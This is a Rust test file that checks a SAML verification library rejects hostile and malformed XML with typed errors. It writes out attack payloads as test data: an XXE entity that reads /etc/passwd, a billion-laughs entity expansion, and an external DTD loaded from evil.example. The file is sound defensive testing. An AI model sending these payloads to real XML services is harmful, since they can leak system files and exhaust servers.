//! XML parser attacks and malformed input: DTDs (XXE, entity expansion, external subsets), deep
//! nesting, oversized messages, and garbage that must come back as typed errors.

use netid_saml::Check;

use super::signed;
use crate::support::{Sign, check_rejected, now, verifier, verify_with};

#[test]
fn dtd_xxe_and_billion_laughs() {
    let xml = signed(Sign::Assertion);
    let body = xml.trim_start_matches("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
    for doctype in [
        "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
        "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">",
    ] {
        let forged = format!("{doctype}{}", body.replacen("alice@example.com", "&c;", 1));
        check_rejected(&verifier(), &forged, Check::Xml);
    }
}

#[test]
fn deep_nesting() {
    let xml = signed(Sign::Assertion);
    let deep = format!(
        "{}x{}",
        "<x:a xmlns:x=\"urn:x\">".repeat(200),
        "</x:a>".repeat(200)
    );
    let forged = xml.replacen(
        "<samlp:Status>",
        &format!("<samlp:Extensions>{deep}</samlp:Extensions><samlp:Status>",),
        1,
    );
    check_rejected(&verifier(), &forged, Check::Xml);
}

#[test]
fn oversized_message() {
    let xml = signed(Sign::Assertion);
    check_rejected(&verifier().max_message_bytes(1000), &xml, Check::Size);
}

#[test]
fn garbage_inputs_are_typed_errors() {
    let v = verifier();
    for (input, check) in [
        ("", Check::Xml),
        ("not xml", Check::Xml),
        ("<a/>", Check::Schema),
        (
            "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>",
            Check::Schema,
        ),
    ] {
        check_rejected(&v, input, check);
    }
    let (requests, replay) = crate::support::stores();
    let e = v
        .verify_post(b"%%%not base64", now(), &requests, &replay)
        .unwrap_err();
    assert_eq!(e.check(), Some(Check::Encoding));
    let e = v
        .verify_xml(&[0xff, 0xfe], now(), &requests, &replay)
        .unwrap_err();
    assert_eq!(e.check(), Some(Check::Encoding));
}

#[test]
fn dtd_in_otherwise_honest_signed_response() {
    let xml = signed(Sign::Both);
    let forged = xml.replacen("<samlp:Response", "<!DOCTYPE samlp:Response><samlp:Response", 1);
    check_rejected(&verifier(), &forged, Check::Xml);
    let _ = verify_with;
}
